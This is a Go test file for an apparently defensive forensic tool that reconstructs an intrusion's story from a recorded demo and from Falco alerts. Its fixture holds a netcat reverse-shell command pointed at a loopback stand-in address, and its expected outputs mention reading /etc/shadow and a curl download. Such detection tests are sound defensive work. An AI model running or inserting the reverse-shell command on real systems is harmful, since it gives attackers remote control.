package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// demoAlert is when the demo's first rule fires, and on what.
const (
	demoAlertAt   = "2026-11-23T23:37:05.239524380Z"
	demoContainer = "6ff4da17d163"
	demoLine      = "nc.traditional -e /bin/bash 127.0.0.66 4444"
)

// The demo's story is known: how they got in, what they ran, read, changed,
// fetched and deleted. STOOP_UPDATE=1 writes it anew.
func TestStoryOfTheDemo(t *testing.T) {
	_, out, errs := stoop(t, "print", "demo", "-r", "stoop", "-f", `alert.rule contains netcat`, "--columns", "alert.id", "-o", "csv")
	id := strings.TrimSpace(out[strings.IndexByte(out, '\n')+1:])
	for _, form := range []struct {
		name string
		args []string
	}{{"demo-story.txt", nil}, {"demo-story.md", []string{"--markdown"}}} {
		code, out, more := stoop(t, append([]string{"print", "demo", "-r", "stoop", "--story", id}, form.args...)...)
		if code != exitOK {
			t.Fatalf("%s%s", errs, more)
		}
		path := filepath.Join("testdata", form.name)
		if os.Getenv("STOOP_UPDATE") == "1" {
			if err := os.WriteFile(path, []byte(out), 0o644); err != nil { //nolint:gosec // a page
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if out != string(want) {
			t.Errorf("%s is not what is told now; read the difference and write it with STOOP_UPDATE=1:\n%s", path, out)
		}
	}
}

// An alert that Falco wrote carries no pid: it is joined to the recording by
// container, command line and time, and tells the same story.
func TestStoryOfFalcosAlert(t *testing.T) {
	alert := filepath.Join(t.TempDir(), "alert.json")
	text := `{"uuid":"9b1c","rule":"Netcat Remote Code Execution in Container","priority":"Warning","source":"syscall","time":"` + demoAlertAt +
		`","output":"x","output_fields":{"container.id":"` + demoContainer + `","proc.cmdline":"` + demoLine + `"}}`
	if err := os.WriteFile(alert, []byte(text+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	code, out, errs := stoop(t, "print", "demo", alert, "-r", "none", "--story", "9b1c")
	if code != exitOK {
		t.Fatal(errs)
	}
	for _, want := range []string{
		"found by    container, command line and time", "GET /track?order=", "sh ran nc.traditional", "cat opened /etc/shadow", "which curl had written",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("%q is missing in\n%s", want, out)
		}
	}
}

// Whoever names no alert is told which there are.
func TestStoryOfNothing(t *testing.T) {
	code, _, errs := stoop(t, "print", "demo", "--story", "no-such")
	if code != exitFailed || !strings.Contains(errs, "the alerts here are") || !strings.Contains(errs, "Command shell through netcat") {
		t.Errorf("%d: %s", code, errs)
	}
	for _, args := range [][]string{{"--story", "x", "-o", "json"}, {"--story", "x", "--around", "y"}, {"--markdown"}} {
		if code, _, errs := stoop(t, append([]string{"print", "demo"}, args...)...); code != exitUsage {
			t.Errorf("%q: %d: %s", args, code, errs)
		}
	}
}
